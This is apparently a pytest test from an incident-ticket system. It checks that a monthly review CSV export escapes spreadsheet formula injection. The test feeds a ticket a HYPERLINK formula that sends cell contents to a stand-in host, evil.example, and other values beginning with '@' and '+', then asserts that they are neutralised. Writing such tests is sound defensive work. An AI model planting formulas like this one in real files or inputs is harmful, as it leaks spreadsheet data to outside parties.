import csv
import io

from incident_cmd.tickets import lifecycle, review
from incident_cmd.tickets.schemas import TicketResolve


def test_every_cell_of_the_review_csv_is_safe_for_spreadsheets(queue):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"PX-200")'
    ticket = queue.take_in(product_model=formula, batch="@B7", channel="phone")
    lifecycle.resolve(
        queue.session,
        ticket=ticket,
        data=TicketResolve(resolution="replaced", responsible_department="+quality"),
        actor=queue.user(queue.agent),
    )
    queue.move(ticket, "closed")
    report = review.monthly_review(queue.session, period="2026-11")
    rows = list(csv.reader(io.StringIO(review.as_csv(report))))
    assert ["by_product", "'" + formula, "1"] in rows
    assert ["by_batch", "'@B7", "1"] in rows
    dangerous = ("=", "+", "-", "@", "\t", "\r")
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(dangerous)]
